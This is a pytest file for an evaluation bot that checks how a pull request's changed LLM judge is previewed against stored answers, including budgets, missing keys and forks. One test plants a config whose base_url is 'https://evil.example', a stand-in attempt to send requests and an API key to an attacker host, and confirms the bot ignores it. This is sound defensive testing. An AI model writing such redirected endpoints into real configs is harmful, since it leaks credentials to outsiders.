"""A judge that head changes is tried on answers that are there: the shift is shown, and the policy's judge goes on deciding."""

from __future__ import annotations

import json

import pytest

from tests.app.checking import CONFIG, GOLDEN, PROMPT, REGRESSION, House, by_quality, golden, regression
from tests.app.on_github import Scene
from tests.github_server import GitHubServer
from tests.loopback import verdict

ANSWERS = GOLDEN + REGRESSION
WORSE = {"prompts/support.md": PROMPT.format(quality="bad")}
SAME = {"prompts/support.md": PROMPT.format(quality="same")}
WITH_JUDGE = """\
version: 1
suites:
  support:
    prompt: prompts/support.md
    model: openai/gpt-5-mini
    dataset: evals/*.jsonl
    metrics: [judge]
metrics:
  judge: {{type: judge, model: {model}, criteria: ["{criterion}"], min: {{golden: 4, default: 3}}}}
"""


def judged(criterion: str = "answers the question", model: str = "anthropic/claude-sonnet-5") -> dict[str, str]:
    return {"evalbot.yml": WITH_JUDGE.format(model=model, criterion=criterion)}


def by_criterion(call):
    """Policy's judge gives 5, the strict one 2; answers name the question."""
    if call.schema is None:
        return f"answer to {call.user}"
    return verdict(call, score=2 if "strictly" in call.text else 5)


@pytest.fixture
def house(tmp_path):
    return House(tmp_path, {"prompts/support.md": PROMPT.format(quality="good"), "evals/all.jsonl": both(), **judged()})


def both() -> str:
    return "".join(json.dumps(row) + "\n" for row in golden() + regression())


def preview_of(result) -> str:
    (found,) = [finding for finding in result.summary["findings"] if finding["rule"] == "judge_preview"]
    assert found["level"] == "notes"
    return found["message"]


def test_both_sides_answers_are_graded_by_heads_judge_too_and_nothing_else_changes(house):
    result = house.head(SAME | judged("answers strictly")).check(by_criterion)

    message = preview_of(result)
    assert f"base 5.00 → 2.00 (−3.00) on {ANSWERS} answers" in message
    assert f"head 5.00 → 2.00 (−3.00) on {ANSWERS} answers, {ANSWERS} → 0 passing" in message
    assert result.findings["policy_changed"] == ["blocks"]
    assert result.comparison()["head_mean"] == 5.0
    assert {row["scores"]["judge"]["value"] for row in result.rows} == {5.0}
    assert "judge_preview" in result.comment


def test_the_answers_are_asked_for_once(house):
    result = house.head(SAME | judged("answers strictly")).check(by_criterion)

    assert sum(call.schema is None for call in result.server.calls) == 2 * ANSWERS
    # One prompt answers as the other does, so each answer is graded once by each judge.
    assert sum(call.schema is not None for call in result.server.calls) == 2 * ANSWERS


def test_without_stored_answers_a_changed_judge_costs_nothing(house):
    result = house.head(judged("answers strictly")).check(by_criterion)

    assert result.server.calls == []
    assert "no stored answers" in preview_of(result)
    assert result.verdict == "fail"


def test_stored_answers_are_graded_where_only_the_judge_changed(house):
    house.head(SAME).check(by_criterion)
    house.repo.switch("main").branch("stricter")
    house.head(judged("answers strictly"))

    result = house.check(by_criterion, head="stricter")

    assert sum(call.schema is None for call in result.server.calls) == 0
    assert f"base 5.00 → 2.00 (−3.00) on {ANSWERS} answers" in preview_of(result)
    assert f"head 5.00 → 2.00 (−3.00) on {ANSWERS} answers" in preview_of(result)
    assert len(result.rows) >= ANSWERS, "what was stored is still there"


@pytest.mark.parametrize("change", [{}, {"evalbot.yml": judged()["evalbot.yml"].replace("golden: 4", "golden: 1")}, {"evalbot.yml": "# a note\n" + judged()["evalbot.yml"]}])
def test_a_judge_that_grades_as_before_is_not_tried(house, change):
    result = house.head(SAME | change).check(by_criterion)

    assert "judge_preview" not in result.findings


def test_a_judge_that_main_has_changed_meanwhile_is_not_heads(house):
    result = house.head(SAME).on_main(judged("answers strictly")).check(by_criterion)

    assert "judge_preview" not in result.findings
    assert result.comparison()["head_mean"] == 2.0


def test_another_model_is_asked_at_policys_endpoint_only(house):
    """Head gives the judge a model of its own, with a place for the key to go."""
    evil = 'models: {mine: {provider: anthropic, base_url: "https://evil.example", api_key_env: HOME, model: claude-opus-5}}\n'
    stolen = {"evalbot.yml": judged(model="mine")["evalbot.yml"] + evil}

    result = house.head(SAME | stolen).check(by_criterion)

    tried = [call for call in result.server.calls if call.model == "claude-opus-5"]
    assert len(tried) == ANSWERS, "asked, and here: not at the address that head names"
    assert "on 52 answers" in preview_of(result)


def test_a_provider_that_policy_does_not_use_is_not_asked(house):
    result = house.head(SAME | judged("answers strictly", model="local/rubric")).check(by_criterion)

    assert "policy uses no such provider" in preview_of(result)
    assert result.verdict == "fail"


def test_a_budget_that_is_used_up_ends_the_preview_and_changes_no_verdict(house):
    limited = "run: {budget_usd: 0.000001}\n"
    house.repo.switch("main").write({"evalbot.yml": judged()["evalbot.yml"] + limited}).commit("limit")
    house.repo.switch("change").git("rebase", "--quiet", "main")

    result = house.head(SAME | {"evalbot.yml": judged("answers strictly")["evalbot.yml"] + limited}).check(by_criterion)

    assert result.verdict in ("fail", "inconclusive")
    assert "none of" in preview_of(result) or "no stored answers" in preview_of(result)


def test_a_forks_judge_is_not_tried(tmp_path):
    strict = {"evalbot.yml": CONFIG.replace("claude-sonnet-5", "claude-opus-5")}
    house = House(tmp_path).head(SAME | strict)
    with GitHubServer(house.repo) as server:
        scene = Scene(tmp_path, house, server, fork="mallory/shop", author="mallory")

        ran = scene.command("bob", f"/evalbot run {scene.pull.head_sha}")

    assert ran.outputs["verdict"] == "fail", "policy_changed"
    assert {call.model for call in ran.models.calls} == {"gpt-5-mini", "claude-sonnet-5"}


def test_a_key_that_is_missing_for_heads_judge_alone_is_said_and_no_error(house):
    twice = judged()["evalbot.yml"] + "models: {other: {provider: openai, model: gpt-5-nano, api_key_env: NO_SUCH_KEY}}\n"
    house.repo.switch("main").write({"evalbot.yml": twice}).commit("another model")
    house.repo.switch("change").git("rebase", "--quiet", "main")

    result = house.head(SAME | {"evalbot.yml": twice.replace("model: anthropic/claude-sonnet-5", "model: other")}).check(by_criterion)

    assert "no key here" in preview_of(result)
    assert result.comparison()["head_mean"] == 5.0


def test_both_sides_shift_apart_where_the_new_judge_sees_a_difference(house):
    def script(call):
        if call.schema is None:
            return by_quality()(call)
        if "strictly" in call.text:
            return verdict(call, score=1 if "quality=bad" in call.text else 4)
        return verdict(call, score=4)

    result = house.head(WORSE | judged("answers strictly")).check(script)

    assert "base 4.00 → 4.00 (0.00)" in preview_of(result)
    assert "head 4.00 → 1.00 (−3.00)" in preview_of(result)
